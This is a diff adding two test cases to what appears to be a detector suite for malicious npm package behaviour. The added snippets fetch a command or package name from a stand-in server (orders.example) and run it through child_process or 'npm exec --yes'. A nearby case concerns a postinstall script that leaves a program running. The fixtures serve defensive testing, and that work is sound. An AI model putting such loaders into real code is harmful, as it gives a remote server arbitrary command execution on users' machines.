@@ -36,6 +36,14 @@ export default defineCases({
       },
     },
     {
+      name: 'an order behind an install',
+      code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((order) => cp.exec(`npm install tides && ${order}`))",
+    },
+    {
+      name: 'a package to run that a server names',
+      code: "const cp = require('child_process');\nfetch('https://orders.example/next').then((r) => r.text()).then((name) => cp.spawn('npm', ['exec', '--yes', name]))",
+    },
+    {
       name: 'a program saved in a temporary folder, made executable and left running',
       manifest: { scripts: { postinstall: 'node s.js' } },
       files: {
